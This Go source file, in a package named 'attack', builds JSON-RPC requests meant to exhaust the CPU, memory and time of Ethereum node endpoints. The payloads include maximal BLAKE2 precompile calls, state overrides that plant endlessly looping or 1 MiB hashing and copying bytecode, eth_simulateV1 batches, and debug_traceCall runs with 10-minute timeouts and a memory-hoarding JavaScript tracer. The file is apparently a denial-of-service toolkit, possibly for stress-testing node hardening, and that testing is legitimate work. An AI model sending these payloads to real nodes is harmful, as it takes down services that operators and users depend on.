// SPDX-License-Identifier: Apache-2.0

package attack

import "strings"

// call is the text of a request.
func call(method, params string) string {
	return `{"jsonrpc":"2.0","id":1,"method":"` + method + `","params":[` + params + `]}`
}

// blake asks for as many rounds of BLAKE2 as the gas of a call pays for.
var blake = call("eth_call", `{"to":"0x0000000000000000000000000000000000000009","gas":"0x2faf080","input":"0x02dc6c00`+strings.Repeat("00", 208)+`01"},"latest"`)

// fill has a node find out how much gas they take.
var fill = call("eth_fillTransaction", `{"from":"0x00000000000000000000000000000000000000fe","to":"0x0000000000000000000000000000000000000009","input":"0x02dc6c00`+strings.Repeat("00", 208)+`01"}`)

// Programs that run until their gas is used up, put at an address by a state override.
const (
	victim = `"0x00000000000000000000000000000000000000ff"`

	forever  = "5b5f56"                         // JUMPDEST PUSH0 JUMP
	copies   = "5b5f5f620fffff5f60045afa505f56" // the identity precompile with 1 MiB, again and again
	hashing  = "5b620fffff5f20505f56"           // the hash of 1 MiB, again and again
	megabyte = "620fffff5ff3"                   // returns 1 MiB
	toVictim = `{"to":` + victim + `,"gas":"`   // the beginning of a call
)

func override(code string) string { return `{` + victim + `:{"code":"0x` + code + `"}}` }

var (
	loop     = toVictim + `0x2faf080"},"latest",` + override(forever)
	simulate = call("eth_simulateV1", `{"blockStateCalls":[{"stateOverrides":`+override(hashing)+`,"calls":[`+toVictim+`0xf42400"},`+toVictim+`0xf42400"},`+toVictim+`0xf42400"}]}]},"latest"`)

	traceJS = call("debug_traceCall", toVictim+`0x2faf080"},"latest",{"stateOverrides":`+override(forever)+
		`,"timeout":"10m","tracer":"{kept: [], step: function(log) { this.kept.push(new Array(1000).join('x') + log.getPC()) }, fault: function() {}, result: function() { return this.kept }}"}`)
	traceMemory = call("debug_traceCall", toVictim+`0x2faf080"},"latest",{"stateOverrides":`+override(copies)+`,"timeout":"10m","enableMemory":true}`)
	traceCalls  = call("debug_traceCall", toVictim+`0x2faf080"},"latest",{"stateOverrides":`+override(copies)+`,"timeout":"10m","tracer":"callTracer"}`)
)
